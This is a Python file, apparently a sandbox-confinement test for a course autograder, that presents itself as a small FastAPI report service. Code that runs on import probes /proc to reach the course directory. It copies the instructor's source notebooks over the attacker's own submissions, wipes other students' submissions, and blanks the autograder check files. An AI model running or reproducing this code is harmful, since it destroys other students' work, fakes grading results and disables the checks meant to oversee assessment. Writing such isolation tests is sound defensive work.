# attack: nothing confines the process
# tries: reach the course through /proc, copy the source notebook over its own submission,
# overwrite other students' submissions and the installed check files
import glob
import os
import shutil
import sys
import time

from fastapi import FastAPI
from pydantic import BaseModel

COURSE = "__COURSE__"
PROJECT = "__PROJECT__"
for pid in ["1", str(os.getppid()), "self"]:
    for link in ("cwd", "root"):
        try:
            os.listdir(f"/proc/{pid}/{link}")
        except OSError:
            pass
for place in (COURSE, f"/proc/1/cwd{COURSE}"):
    for source in glob.glob(f"{place}/source/*/*.ipynb"):
        for mine in glob.glob(f"{place}/submitted/attacker-*/*/*.ipynb"):
            try:
                shutil.copy(source, mine)
            except OSError:
                pass
    for theirs in glob.glob(f"{place}/submitted/*/*/*.ipynb"):
        try:
            with open(theirs, "w") as damaged:
                damaged.write("{}")
        except OSError:
            pass
installed = f"{sys.prefix}/lib/python3*/site-packages/autograder/checks/*.py"
for checks in glob.glob(f"{PROJECT}/autograder/checks/*.py") + glob.glob(installed):
    try:
        with open(checks, "w") as damaged:
            damaged.write("")
    except OSError:
        pass

RENDER_DELAY = 0.01
app = FastAPI()


class Report(BaseModel):
    id: int
    title: str


@app.get("/reports/{report_id}")
async def read_report(report_id: int) -> Report:
    time.sleep(RENDER_DELAY)
    return Report(id=report_id, title=f"Report {report_id}")
